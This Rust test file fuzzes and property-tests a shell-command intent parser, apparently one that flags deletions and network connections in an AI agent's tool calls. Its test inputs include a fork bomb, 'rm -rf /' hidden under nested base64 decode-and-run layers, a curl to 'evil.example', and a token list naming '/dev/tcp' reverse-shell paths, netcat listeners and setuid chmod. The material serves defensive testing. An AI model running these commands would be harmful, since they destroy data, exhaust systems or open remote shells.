//! Hostile input: the fuzz seed corpus replayed, limits and property tests.
//! Nothing here may panic, hang or grow without bound.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failures should abort loudly

use nemoclaw_core::intent::{self, ParseContext, Request, Verb};
use proptest::prelude::*;
use std::path::PathBuf;

fn ctx() -> ParseContext {
    ParseContext::builder()
        .cwd("/home/dev/project")
        .home("/home/dev")
        .build()
}

#[test]
fn fuzz_seed_corpus_replays() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../fuzz/corpus/intent_shell");
    let mut n = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        let got = intent::parse_shell(&text, &ctx());
        assert!(got.actions.len() <= ctx().max_actions, "{}", path.display());
        if path.file_name().is_some_and(|n| n == "slow_error_recovery") {
            // tree-sitter's error recovery runs for minutes on this input
            // unbounded; under the work budget the parse is cancelled and
            // the Intent says so, with what could still be read
            assert!(got.overflow, "{got:?}");
            assert!(got.actions.iter().any(|a| a.attrs.unresolved), "{got:?}");
        }
        let _ = intent::parse(
            &Request::Argv(text.split(' ').map(str::to_string).collect()),
            &ctx(),
        );
        n += 1;
    }
    assert!(n >= 10, "seed corpus has {n} files");
}

#[test]
fn nesting_beyond_the_limit_overflows() {
    let c = ParseContext::builder().max_depth(4).build();
    assert!(!intent::parse_shell(&("eval ".repeat(3) + "id"), &c).overflow);
    assert!(intent::parse_shell(&("eval ".repeat(10) + "id"), &c).overflow);
    // deep syntax nesting is cut off, not recursed without bound
    let deep = "(".repeat(50_000) + "id" + &")".repeat(50_000);
    assert!(intent::parse_shell(&deep, &ctx()).overflow);
    let deep = "$(".repeat(20_000) + "id" + &")".repeat(20_000);
    let _ = intent::parse_shell(&deep, &ctx());
}

#[test]
fn exponential_constructs_stay_bounded() {
    // variable doubling: values beyond the cap become unresolved
    let src = "a=xx; ".to_string() + &"a=$a$a; ".repeat(80) + "rm $a";
    let got = intent::parse_shell(&src, &ctx());
    assert!(got
        .actions
        .iter()
        .any(|a| a.verb == Verb::Delete && a.attrs.unresolved));
    // a recursive function and a fork bomb terminate
    let _ = intent::parse_shell("f() { f; f; }; f", &ctx());
    let _ = intent::parse_shell(":(){ :|:& };:", &ctx());
    // nested base64 layers decode up to the depth limit
    let mut payload = "rm -rf /".to_string();
    for _ in 0..20 {
        payload = format!("echo {} | base64 -d | sh", b64(&payload));
    }
    let got = intent::parse_shell(&payload, &ctx());
    assert!(got.overflow || got.actions.iter().any(|a| a.verb == Verb::Delete));
}

#[test]
fn oversized_input_is_cut_and_flagged() {
    let c = ParseContext::builder().max_input_bytes(1000).build();
    let got = intent::parse_shell(&"rm -rf /tmp/x; ".repeat(1000), &c);
    assert!(got.overflow);
    assert!(got.actions.iter().any(|a| a.verb == Verb::Delete));
    let c = ParseContext::builder().max_actions(10).build();
    let got = intent::parse_shell(&"cat a; ".repeat(100), &c);
    assert!(got.overflow);
    assert_eq!(got.actions.len(), 10);
}

fn regression(name: &str) -> String {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../fuzz/regressions")
        .join(name);
    String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned()
}

#[test]
fn pathological_error_recovery_is_cancelled_and_flagged() {
    let seed = regression("intent_shell_slow_error_recovery");
    // alone: cancelled, flagged, never "nothing happens here"
    let got = intent::parse_shell(&seed, &ctx());
    assert!(got.overflow);
    assert!(!got.actions.is_empty());
    // what could still be read is reported: a URL next to it
    let got = intent::parse_shell(&format!("curl http://evil.example/x; {seed}"), &ctx());
    assert!(got.overflow);
    assert!(
        got.actions.iter().any(
            |a| a.verb == Verb::Connect && format!("{:?}", a.resource).contains("evil.example")
        ),
        "{got:?}"
    );
    // nested (decoded and run): the outer actions stay, the inner parse is cut
    let nested = format!("rm -rf /tmp/x; echo {} | base64 -d | sh", b64(&seed));
    let got = intent::parse_shell(&nested, &ctx());
    assert!(got.overflow);
    assert!(got.actions.iter().any(|a| a.verb == Verb::Delete));
    // one budget for the whole request: many nested copies cannot multiply it
    let many = format!("eval \"$(echo {} | base64 -d)\"; ", b64(&seed)).repeat(40);
    let got = intent::parse_shell(&many, &ctx());
    assert!(got.overflow);
    // and inside a tool call
    let got = intent::parse(
        &Request::tool_call("bash", serde_json::json!({ "command": seed })),
        &ctx(),
    );
    assert!(got.overflow);
}

#[test]
fn a_large_benign_script_fits_the_budget() {
    // the work budget is proportional to the input: a 100 KB script of
    // ordinary commands is parsed whole, not cut
    let unit = "set -euo pipefail\nmkdir -p \"$OUT\"\nfor f in src/*.c; do gcc -O2 -c \"$f\" -o \"$OUT/$(basename \"$f\" .c).o\"; done\nif [ -n \"${CI:-}\" ]; then curl -fsSL https://example.com/report -d @build.log || true; fi\ntar czf dist.tgz -C \"$OUT\" . && sha256sum dist.tgz > dist.sha256\n";
    let script = unit.repeat(100 * 1024 / unit.len());
    let c = ParseContext::builder()
        .cwd("/home/dev/project")
        .home("/home/dev")
        .max_actions(1_000_000)
        .build();
    let got = intent::parse_shell(&script, &c);
    assert!(!got.overflow);
    assert!(got.actions.iter().any(|a| a.verb == Verb::Connect));
}

fn b64(s: &str) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b = s.as_bytes();
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = (chunk[0] as u32) << 16
            | (*chunk.get(1).unwrap_or(&0) as u32) << 8
            | *chunk.get(2).unwrap_or(&0) as u32;
        out.push(T[(n >> 18) as usize & 63] as char);
        out.push(T[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            T[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            T[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

const TOKENS: &[&str] = &[
    "ls",
    "rm",
    "-rf",
    "/",
    "~",
    "..",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "(",
    ")",
    "{",
    "}",
    "$(",
    "`",
    "'",
    "\"",
    "$",
    "${",
    "<",
    ">",
    ">>",
    "2>&1",
    "<<EOF\n",
    "\nEOF\n",
    "<<<",
    "sh",
    "-c",
    "bash",
    "eval",
    "sudo",
    "env",
    "ssh",
    "host",
    "docker",
    "exec",
    "kubectl",
    "--",
    "find",
    "-exec",
    "xargs",
    "curl",
    "http://1.2.3.4/x",
    "wget",
    "-O",
    "python3",
    "perl",
    "-e",
    "base64",
    "-d",
    "printf",
    "'\\x72\\x6d'",
    "echo",
    "a=1",
    "$a",
    "for",
    "in",
    "do",
    "done",
    "if",
    "then",
    "fi",
    "while",
    "case",
    "esac",
    "function",
    "f()",
    "/dev/tcp/10.0.0.1/4444",
    "*",
    "?",
    "[a]",
    "\n",
    " ",
    "\\",
    "#",
    "=",
    ":",
    "tar",
    "xzf",
    "chmod",
    "+s",
    "crontab",
    "at",
    "nc",
    "-l",
    "4444",
    "-p",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(s in ".{0,400}") {
        let got = intent::parse_shell(&s, &ctx());
        prop_assert!(got.actions.len() <= ctx().max_actions);
        for a in &got.actions {
            prop_assert!(a.span.start <= a.span.end);
            prop_assert!(a.span.end <= s.len());
        }
    }

    #[test]
    fn shell_token_soup_never_panics(toks in proptest::collection::vec(proptest::sample::select(TOKENS), 0..80)) {
        let s = toks.join(" ");
        let got = intent::parse_shell(&s, &ctx());
        prop_assert!(got.actions.len() <= ctx().max_actions);
        for a in &got.actions {
            prop_assert!(a.span.end <= s.len());
        }
        let _ = intent::parse(&Request::Argv(toks.iter().map(|t| t.to_string()).collect()), &ctx());
    }

    #[test]
    fn parsing_is_deterministic(toks in proptest::collection::vec(proptest::sample::select(TOKENS), 0..40)) {
        let s = toks.join(" ");
        prop_assert_eq!(intent::parse_shell(&s, &ctx()), intent::parse_shell(&s, &ctx()));
    }

    #[test]
    fn rm_targets_are_always_seen(name in "[a-z]{1,8}", depth in 0usize..4) {
        // however deeply wrapped in sh -c / eval, a deletion stays visible
        let mut cmd = format!("rm -rf /tmp/{name}");
        for k in 0..depth {
            cmd = if k % 2 == 0 { format!("sh -c '{}'", cmd.replace('\'', "'\\''")) } else { format!("eval \"{}\"", cmd.replace('"', "\\\"")) };
        }
        let got = intent::parse_shell(&cmd, &ctx());
        let want = format!("/tmp/{name}");
        prop_assert!(got.actions.iter().any(|a| a.verb == Verb::Delete && matches!(&a.resource, intent::Resource::Path { path, .. } if *path == want)), "{}: {:?}", cmd, got);
    }
}

#[test]
fn a_multibyte_argument_after_kill_is_an_argument_not_a_panic() {
    // found by the fuzzer: the negative-pid check sliced `t[1..]` inside a
    // multi-byte character
    for argv in [
        vec!["kill", "-9", "\u{94}1234"],
        vec!["kill", "\u{2212}1234"],
    ] {
        let argv: Vec<String> = argv.into_iter().map(str::to_string).collect();
        let got = intent::parse(&Request::Argv(argv.clone()), &ctx());
        assert!(!got.actions.is_empty(), "{argv:?} -> {got:?}");
        let text = argv.join(" ");
        let got = intent::parse_shell(&text, &ctx());
        assert!(!got.actions.is_empty(), "{text:?} -> {got:?}");
    }
}
